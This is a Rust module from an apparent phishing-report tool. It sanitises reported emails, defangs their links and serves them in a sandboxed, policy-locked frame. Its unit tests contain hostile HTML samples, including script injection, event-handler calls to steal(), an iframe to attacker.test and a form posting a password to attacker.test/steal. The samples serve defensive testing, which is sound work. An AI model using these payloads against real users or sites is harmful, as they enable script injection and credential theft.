//! The reported message, shown so that it can do nothing.
//!
//! The HTML part goes through ammonia, a maintained allow-list sanitiser:
//! no scripts, styles, forms, frames, objects or event-handler attributes
//! survive, and images keep only `data:` sources, so nothing is loaded
//! from anywhere. The sanitised HTML is then tokenized once more and written
//! out by this module, which turns every link into plain text followed by
//! its real target (defanged), and every removed image into a note. The
//! result is served from its own route into an `<iframe sandbox>` without
//! any `allow-` token. Its policy allows nothing but `data:` images and one
//! inline style block (by nonce), and forbids form submission. The policy
//! sandboxes the document even when the route is opened directly.

use std::borrow::Cow;
use std::cell::{Cell, RefCell};
use std::collections::HashMap;
#[cfg(test)]
use std::collections::HashSet;
use std::sync::LazyLock;

use axum::extract::rejection::PathRejection;
use axum::extract::{Path, Query, State};
use axum::http::header::{CONTENT_SECURITY_POLICY, X_FRAME_OPTIONS};
use axum::response::{Html, IntoResponse, Response};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use mail_parser::{MessageParser, MimeHeaders};
use minijinja::context;
use phishloop_coaching::{defang_links_in, defang_url};
use serde::{Deserialize, Serialize};
use uuid::Uuid;

use super::roles::Permission;
use super::templates::{render, safe_html};
use super::view::escape_text;
use super::{Signed, WebError, WebState};
use crate::api::path_id;

/// HTML beyond this many bytes is cut before sanitising, to bound the work
/// a hostile message can cause.
const MAX_HTML_BYTES: usize = 2 * 1024 * 1024;
/// Text beyond this many bytes is cut.
const MAX_TEXT_BYTES: usize = 512 * 1024;

/// Elements whose start tag has no end tag.
const VOID_ELEMENTS: [&str; 6] = ["br", "hr", "img", "wbr", "col", "area"];

/// A reported message prepared for display.
#[derive(Clone, Debug, Default, Serialize)]
pub(crate) struct ShownMessage {
    /// From, Reply-To, To, Cc, Date and Subject, with their URLs, domains
    /// and addresses defanged.
    pub(crate) headers: Vec<(String, String)>,
    /// The sanitised HTML part, safe to insert into the frame document.
    pub(crate) html: Option<String>,
    /// The plain-text part, unescaped, with its URLs, domains and addresses
    /// defanged.
    pub(crate) text: Option<String>,
    /// The real target of each link, defanged, in order.
    pub(crate) links: Vec<String>,
    /// Images not shown because they would load from elsewhere.
    pub(crate) images_removed: usize,
    /// Set when a part was cut for its size.
    pub(crate) truncated: bool,
}

static SANITIZER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::default();
    builder
        .link_rel(None)
        .url_relative(ammonia::UrlRelative::Deny)
        .rm_tags(["map", "area"])
        // Inline images only; the attribute filter below drops every other source.
        .add_url_schemes(["data"])
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("img", "src") if is_inline_image(value) => Some(Cow::Borrowed(value)),
            ("img", "src" | "srcset") => None,
            _ => Some(Cow::Borrowed(value)),
        });
    builder
});

fn is_inline_image(source: &str) -> bool {
    source.trim_start().get(..11).is_some_and(|prefix| prefix.eq_ignore_ascii_case("data:image/"))
}

/// Parses a message and prepares its headers and body for display.
pub(crate) fn show(original: &[u8], targets: &HashMap<String, String>) -> ShownMessage {
    let Some(message) = MessageParser::default().parse(original) else {
        return ShownMessage { text: Some(String::from_utf8_lossy(original).into_owned()), ..ShownMessage::default() };
    };
    let mut shown = ShownMessage::default();
    let header = |name: &str, value: Option<String>| value.map(|value| (name.to_owned(), defang_links_in(&value)));
    let addresses = |address: Option<&mail_parser::Address>| address.map(format_addresses);
    shown.headers = [
        header("From", addresses(message.from())),
        header("Reply-To", addresses(message.reply_to())),
        header("To", addresses(message.to())),
        header("Cc", addresses(message.cc())),
        header("Date", message.date().map(|date| date.to_rfc3339())),
        header("Subject", message.subject().map(str::to_owned)),
    ]
    .into_iter()
    .flatten()
    .collect();

    // mail-parser makes up an HTML body from a text part; only a real text/html part counts.
    let html_part = message.html_body.iter().filter_map(|&index| message.part(index)).find(|part| {
        part.content_type().is_some_and(|kind| {
            kind.ctype().eq_ignore_ascii_case("text")
                && kind.subtype().is_some_and(|sub| sub.eq_ignore_ascii_case("html"))
        })
    });
    if let Some(html) = html_part.and_then(|part| part.text_contents()) {
        let (html, cut) = cut_at(html, MAX_HTML_BYTES);
        shown.truncated |= cut;
        let rendered = render_safe_html(html, targets);
        shown.html = Some(rendered.html);
        shown.links = rendered.links;
        shown.images_removed = rendered.images_removed;
    }
    if let Some(text) = message.body_text(0) {
        let (text, cut) = cut_at(&text, MAX_TEXT_BYTES);
        shown.truncated |= cut;
        shown.text = Some(defang_links_in(text));
    }
    shown
}

fn format_addresses(address: &mail_parser::Address) -> String {
    let mut written = Vec::new();
    for addr in address.iter() {
        match (addr.name(), addr.address()) {
            (Some(name), Some(email)) => written.push(format!("{name} <{email}>")),
            (None, Some(email)) => written.push(email.to_owned()),
            (Some(name), None) => written.push(name.to_owned()),
            (None, None) => {}
        }
    }
    written.join(", ")
}

fn cut_at(text: &str, limit: usize) -> (&str, bool) {
    if text.len() <= limit {
        return (text, false);
    }
    let mut end = limit;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    (&text[..end], true)
}

/// Sanitised HTML with links turned into text.
pub(crate) struct SafeHtml {
    pub(crate) html: String,
    pub(crate) links: Vec<String>,
    pub(crate) images_removed: usize,
}

/// Sanitises hostile HTML and writes it out with every link as text
/// followed by its defanged target.
///
/// The sanitised HTML is read back with html5ever's tokenizer, which
/// decodes every attribute value and text run exactly as a browser would,
/// and each token is written out again with all text escaped by this
/// module. Ammonia keeps no raw-text elements (script, style, textarea),
/// so the tokenizer's default state reads the whole document correctly.
pub(crate) fn render_safe_html(html: &str, targets: &HashMap<String, String>) -> SafeHtml {
    let sanitised = SANITIZER.clean(html).to_string();
    let writer = SafeWriter {
        targets,
        html: RefCell::default(),
        links: RefCell::default(),
        images_removed: Cell::default(),
        open_links: RefCell::default(),
    };
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(sanitised));
    let tokenizer = Tokenizer::new(writer, TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();

    let writer = tokenizer.sink;
    writer.close_open_links();
    SafeHtml { html: writer.html.take(), links: writer.links.take(), images_removed: writer.images_removed.get() }
}

/// Writes the tokens of sanitised HTML back out; a token sink gets `&self`,
/// so the output lives in cells.
struct SafeWriter<'a> {
    /// The analysis's effective target of each link URL, where a
    /// redirector or link wrapper hides it.
    targets: &'a HashMap<String, String>,
    html: RefCell<String>,
    links: RefCell<Vec<String>>,
    images_removed: Cell<usize>,
    /// The defanged target of each `<a>` still open, innermost last.
    open_links: RefCell<Vec<Option<String>>>,
}

impl TokenSink for SafeWriter<'_> {
    type Handle = ();

    fn process_token(&self, token: Token, _line_number: u64) -> TokenSinkResult<()> {
        match token {
            Token::CharacterTokens(text) => self.html.borrow_mut().push_str(&escape_text(&defang_links_in(&text))),
            Token::TagToken(tag) => self.tag(&tag),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

impl SafeWriter<'_> {
    fn tag(&self, tag: &Tag) {
        let name: &str = &tag.name;
        if !is_plain_name(name) {
            return;
        }
        let attribute =
            |wanted: &str| tag.attrs.iter().find(|attr| &*attr.name.local == wanted).map(|attr| attr.value.to_string());
        let mut html = self.html.borrow_mut();
        match (tag.kind, name) {
            (TagKind::StartTag, "a") => {
                html.push_str("<span class=\"link-text\">");
                self.open_links.borrow_mut().push(attribute("href").map(|href| self.shown_target(&href)));
            }
            (TagKind::EndTag, "a") => {
                let target = self.open_links.borrow_mut().pop();
                write_link_end(&mut html, &mut self.links.borrow_mut(), target.flatten());
            }
            (TagKind::StartTag, "img") if attribute("src").is_none() => {
                self.images_removed.set(self.images_removed.get() + 1);
                let alt = attribute("alt").map(|alt| format!(": {alt}")).unwrap_or_default();
                html.push_str(&format!("<span class=\"image-removed\">[image not loaded{}]</span>", escape_text(&alt)));
            }
            (TagKind::StartTag, _) => {
                html.push('<');
                html.push_str(name);
                for attr in &tag.attrs {
                    let attr_name: &str = &attr.name.local;
                    if is_plain_name(attr_name) {
                        html.push_str(&format!(" {attr_name}=\"{}\"", escape_text(&attr.value)));
                    }
                }
                html.push('>');
            }
            (TagKind::EndTag, _) if !VOID_ELEMENTS.contains(&name) => html.push_str(&format!("</{name}>")),
            (TagKind::EndTag, _) => {}
        }
    }

    /// Returns the defanged target of a link: the effective target when the
    /// analysis unwrapped it, with the host of the wrapper it hid behind.
    fn shown_target(&self, href: &str) -> String {
        match self.targets.get(href).filter(|effective| effective.as_str() != href) {
            Some(effective) => {
                let wrapper = href.split_once("://").map_or(href, |(_, rest)| rest);
                let wrapper_host = wrapper.split(['/', '?', '#']).next().unwrap_or(wrapper);
                format!("{} via {}", defang_url(effective), defang_url(wrapper_host))
            }
            None => defang_url(href),
        }
    }

    /// Ends links the HTML left open, so each target is still shown.
    fn close_open_links(&self) {
        let open: Vec<Option<String>> = self.open_links.borrow_mut().drain(..).rev().collect();
        for target in open {
            write_link_end(&mut self.html.borrow_mut(), &mut self.links.borrow_mut(), target);
        }
    }
}

fn write_link_end(html: &mut String, links: &mut Vec<String>, target: Option<String>) {
    html.push_str("</span>");
    if let Some(target) = target {
        html.push_str(&format!(" <span class=\"link-target\">[{}]</span>", escape_text(&target)));
        links.push(target);
    }
}

/// Tag and attribute names are written only when they are plain ASCII
/// names, which every name the sanitiser keeps is.
fn is_plain_name(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
}

/// The policy of the message frame; `{nonce}` is replaced per response.
const FRAME_POLICY: &str = "default-src 'none'; img-src data:; style-src 'nonce-{nonce}'; form-action 'none'; \
     frame-ancestors 'self'; base-uri 'none'; sandbox";

#[derive(Debug, Deserialize)]
pub(crate) struct MessageQuery {
    /// A report of the case; without it, the case's first report.
    report: Option<Uuid>,
}

/// Serves the sanitised message of a case as the document of its frame.
pub(crate) async fn message_frame(
    State(state): State<WebState>,
    signed: Signed,
    path: Result<Path<Uuid>, PathRejection>,
    Query(query): Query<MessageQuery>,
) -> Result<Response, WebError> {
    signed.require(Permission::ReadCases)?;
    let case_id = path_id(path)?;
    let shown = load_shown(&state, case_id, query.report).await?;

    let nonce = nonce()?;
    let body = match (&shown.html, &shown.text) {
        (Some(html), _) => html.clone(),
        (None, Some(text)) => format!("<pre class=\"text\">{}</pre>", escape_text(text)),
        (None, None) => "<p class=\"empty\">The message has no text or HTML part.</p>".to_owned(),
    };
    let page = render("message.html", context! { nonce => &nonce, body => safe_html(body) })?;
    let policy = FRAME_POLICY.replace("{nonce}", &nonce);
    Ok(([(CONTENT_SECURITY_POLICY, policy), (X_FRAME_OPTIONS, "SAMEORIGIN".to_owned())], Html(page)).into_response())
}

/// Loads the original of a case's report and prepares it for display.
pub(crate) async fn load_shown(
    state: &WebState,
    case_id: Uuid,
    report_id: Option<Uuid>,
) -> Result<ShownMessage, WebError> {
    let detail =
        state.store().get_case(case_id).await?.ok_or(WebError::NotFound(format!("case {case_id} not found")))?;
    let report = match report_id {
        Some(id) => detail.reports.iter().find(|report| report.id == id),
        None => detail.reports.first(),
    };
    let report = report.ok_or_else(|| WebError::NotFound(format!("the report is not part of case {case_id}")))?;
    let raw = state.store().get_raw(&report.raw_sha256).await?.unwrap_or_default();
    let targets = report.analysis.as_ref().map(effective_targets).unwrap_or_default();
    let pipeline = std::sync::Arc::clone(&state.app.pipeline);
    let shown = tokio::task::spawn_blocking(move || {
        let original = pipeline.displayed_original(&raw).unwrap_or(raw);
        show(&original, &targets)
    })
    .await
    .map_err(crate::error::ServiceError::from)?;
    Ok(shown)
}

/// Maps each link URL of an analysis record, as written and as parsed, to
/// its effective target.
fn effective_targets(analysis: &serde_json::Value) -> HashMap<String, String> {
    let mut targets = HashMap::new();
    let urls = analysis.pointer("/message/urls").and_then(serde_json::Value::as_array);
    for url in urls.into_iter().flatten() {
        let Some(effective) = url.get("effective").and_then(serde_json::Value::as_str) else {
            continue;
        };
        for key in ["raw", "url"] {
            if let Some(written) = url.get(key).and_then(serde_json::Value::as_str) {
                targets.insert(written.to_owned(), effective.to_owned());
            }
        }
    }
    targets
}

fn nonce() -> Result<String, WebError> {
    let mut bytes = [0u8; 16];
    getrandom::fill(&mut bytes).map_err(|error| {
        WebError::Internal(crate::error::ServiceError::Config(format!(
            "the operating system gave no random bytes: {error}"
        )))
    })?;
    Ok(bytes.iter().map(|byte| format!("{byte:02x}")).collect())
}

/// Tags the sanitiser keeps, for the tests.
#[cfg(test)]
fn kept_tags() -> HashSet<&'static str> {
    SANITIZER.clone_tags()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_and_handlers_removed() {
        let safe = render_safe_html(
            "<p onclick=\"steal()\">Hi<script>window.pwned=1</script></p><img src=x onerror=\"steal()\">\
             <svg><script>steal()</script></svg><iframe src=\"https://attacker.test/\"></iframe>",
            &HashMap::new(),
        );

        assert!(!safe.html.contains("script"), "{}", safe.html);
        assert!(!safe.html.contains("onclick"), "{}", safe.html);
        assert!(!safe.html.contains("onerror"), "{}", safe.html);
        assert!(!safe.html.contains("iframe"), "{}", safe.html);
        assert!(safe.html.contains("<p>Hi</p>"), "{}", safe.html);
    }

    #[test]
    fn remote_images_not_loaded() {
        let safe = render_safe_html(
            "<img src=\"https://tracker.test/pixel.gif\" alt=\"logo\"><img srcset=\"https://tracker.test/a.png 2x\">\
             <table background=\"https://tracker.test/bg.png\"><tr><td style=\"background:url(https://tracker.test/c.png)\">x</td></tr></table>\
             <img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            &HashMap::new(),
        );

        assert!(!safe.html.contains("tracker.test"), "{}", safe.html);
        assert!(safe.html.contains("[image not loaded: logo]"), "{}", safe.html);
        assert!(safe.html.contains("src=\"data:image/png;base64,iVBORw0KGgo=\""), "{}", safe.html);
        assert_eq!(safe.images_removed, 2);
    }

    #[test]
    fn links_shown_as_text_with_target() {
        let safe = render_safe_html(
            "<a href=\"https://login.lure.test/verify?u=1&amp;b=2\">Verify <b>now</b></a>",
            &HashMap::new(),
        );

        assert!(!safe.html.contains("<a"), "{}", safe.html);
        assert!(!safe.html.contains("href"), "{}", safe.html);
        assert!(safe.html.contains("<span class=\"link-text\">Verify <b>now</b></span>"), "{}", safe.html);
        assert!(safe.html.contains("hxxps://login[.]lure[.]test/verify?u=1&amp;b=2"), "{}", safe.html);
        assert_eq!(safe.links, vec!["hxxps://login[.]lure[.]test/verify?u=1&b=2".to_owned()]);
    }

    #[test]
    fn wrapped_link_shows_effective_target() {
        let targets = HashMap::from([(
            "https://wrap.test/?url=https%3A%2F%2Flure.test%2Fa".to_owned(),
            "https://lure.test/a".to_owned(),
        )]);

        let safe = render_safe_html("<a href=\"https://wrap.test/?url=https%3A%2F%2Flure.test%2Fa\">x</a>", &targets);

        assert_eq!(safe.links, vec!["hxxps://lure[.]test/a via wrap[.]test".to_owned()]);
    }

    #[test]
    fn forms_removed() {
        let safe = render_safe_html(
            "<form action=\"https://attacker.test/steal\" method=\"post\"><input name=\"password\">\
             <button formaction=\"https://attacker.test/\">Send</button></form>",
            &HashMap::new(),
        );

        assert!(!safe.html.contains("form"), "{}", safe.html);
        assert!(!safe.html.contains("input"), "{}", safe.html);
        assert!(!safe.html.contains("button"), "{}", safe.html);
        assert!(!kept_tags().contains("form"));
    }

    #[test]
    fn attribute_values_escaped() {
        let safe = render_safe_html(
            "<p title='\"><script>x</script>'>t</p><a href=\"https://a.test/\"><img alt=\"</a><b>\"></a>",
            &HashMap::new(),
        );

        assert!(!safe.html.contains("<script>"), "{}", safe.html);
        assert!(safe.html.contains("title=\"&quot;&gt;&lt;script&gt;x&lt;/script&gt;\""), "{}", safe.html);
    }

    #[test]
    fn text_part_shown_when_no_html() {
        let shown = show(
            b"From: Boss <boss@lure.test>\r\nSubject: Pay now\r\n\r\nWire the money to <b>us</b>.\r\nhttps://pay.lure.test/x\r\n",
            &HashMap::new(),
        );

        assert!(shown.html.is_none());
        assert_eq!(
            shown.text.as_deref().map(str::trim_end),
            Some("Wire the money to <b>us</b>.\r\nhxxps://pay[.]lure[.]test/x")
        );
        assert!(shown.headers.contains(&("From".to_owned(), "Boss <boss@lure[.]test>".to_owned())));
        assert!(shown.headers.contains(&("Subject".to_owned(), "Pay now".to_owned())));
    }

    #[test]
    fn html_part_found_in_alternative() {
        let message = b"From: a@lure.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nplain\r\n\
--b\r\nContent-Type: text/html\r\n\r\n<p>rich <a href=\"http://x.test/\">x</a></p>\r\n--b--\r\n";

        let shown = show(message, &HashMap::new());

        assert!(shown.html.as_deref().is_some_and(|html| html.contains("rich")), "{:?}", shown.html);
        assert_eq!(shown.links, vec!["hxxp://x[.]test/".to_owned()]);
    }
}
